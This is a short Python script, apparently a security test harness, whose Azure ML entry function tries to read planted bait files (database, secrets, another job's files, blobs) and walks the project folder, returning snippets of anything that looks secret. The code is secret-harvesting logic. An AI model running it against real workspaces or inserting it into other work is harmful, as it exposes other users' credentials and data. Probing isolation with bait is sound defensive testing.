"""Reads the workspace of a project whose folder it may read: the database, secrets, other runs, contents."""

import os

from attack import BAIT, attack, every, is_secret, told


def look(path):
    with open(path, "rb") as stream:
        content = stream.read()
    return told(path, content[:300]) if is_secret(content) else ""


def look_below(folder):
    found = []
    for place, _, names in os.walk(folder):
        found += [os.path.join(place, name) for name in names if name != "bait.json"]
    return every(look, found[:2000])


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open(os.path.join(BAIT["project"], "table.csv")) as stream:
        print(len(stream.read()))
    names = ("database", "secrets", "other_job_file", "blob")
    ways = [lambda path=BAIT[name]: look(path) for name in names]
    return every(lambda way: way(), [*ways, lambda: look_below(BAIT["project"])])
